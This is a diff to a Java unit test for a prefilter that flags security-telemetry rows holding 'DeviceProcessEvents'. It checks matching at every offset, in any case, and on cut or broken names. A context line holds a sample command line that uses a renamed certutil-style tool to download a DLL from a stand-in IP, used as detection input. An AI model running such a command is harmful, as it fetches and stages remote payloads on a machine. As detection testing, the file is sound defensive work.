@@ -70,6 +70,30 @@ class RawPrefilterTest {
     }
 
     @Test
+    void theProcessTableIsFoundAtEveryOffsetInAnyCaseAndNotWhenCut() {
+        // The search takes eight positions at a time and the last ones one by one: the name must be found
+        // wherever it starts, up to the unit's end, in any ASCII case, and never past the end.
+        java.util.Random random = new java.util.Random(7);
+        String[] spellings = {"DeviceProcessEvents", "deviceprocessevents", "DEVICEPROCESSEVENTS", "dEvIcEpRoCeSsEvEnTs"};
+        for (int prefix = 0; prefix < 40; prefix++) {
+            for (int suffix = 0; suffix < 12; suffix++) {
+                String name = spellings[random.nextInt(spellings.length)];
+                // Fillers with many d's and p's, six apart or not, as in "DeviceId" and "AppData".
+                String filler = "dd pp dxxxxxp Device AppData ".repeat(3);
+                String unit = filler.substring(0, prefix) + name + filler.substring(0, suffix);
+                byte[] bytes = bytes(unit);
+                assertThat(RawPrefilter.mayHoldProcessRows(bytes, 0, bytes.length, null)).as(unit).isTrue();
+                int cut = prefix + name.length() - 1;
+                assertThat(RawPrefilter.mayHoldProcessRows(bytes, 0, cut, null)).as("cut: %s", unit).isFalse();
+                assertThat(RawPrefilter.mayHoldProcessRows(bytes, prefix + 1, bytes.length, null)).as("after: %s", unit)
+                        .isFalse();
+                String broken = unit.substring(0, prefix + 7) + "_" + unit.substring(prefix + 8);
+                assertThat(RawPrefilter.mayHoldProcessRows(bytes(broken), 0, broken.length(), null)).as(broken).isFalse();
+            }
+        }
+    }
+
+    @Test
     void upperCaseUrlcacheIsKept() {
         assertThat(mayMatter(withColumn(BENIGN_ROW, "InitiatingProcessCommandLine",
                 "\"UPD2.EXE -URLCACHE -SPLIT -F HTTP://198.51.100.7/D.DLL\""))).isTrue();
